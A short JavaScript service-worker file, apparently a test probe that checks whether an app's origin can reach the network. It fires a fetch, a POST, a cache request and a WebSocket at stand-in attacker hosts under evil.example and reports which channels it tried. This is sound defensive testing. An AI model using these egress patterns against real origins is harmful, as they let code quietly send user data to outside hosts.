// Served as a service worker of the app's origin: every way out of one.
const CHANNELS = {
  serviceWorkerFetch: (url) => fetch(url, { mode: 'no-cors' }),
  serviceWorkerPost: (url) => fetch(url, { method: 'POST', body: 'x', mode: 'no-cors' }),
  serviceWorkerCache: async (url) => (await caches.open('probe')).add(new Request(url, { mode: 'no-cors' })),
  serviceWorkerWebSocket: (url) => new WebSocket(url.replace('http', 'ws')),
};

self.addEventListener('message', (event) => {
  const [port] = event.ports;
  if (port === undefined) return;
  for (const [channel, attempt] of Object.entries(CHANNELS)) {
    try {
      void Promise.resolve(attempt(`http://${channel}.evil.example/${channel}`)).catch(() => undefined);
    } catch {
      // Refused.
    }
  }
  event.waitUntil(
    new Promise((resolve) => setTimeout(resolve, 1000)).then(() => port.postMessage(Object.keys(CHANNELS))),
  );
});
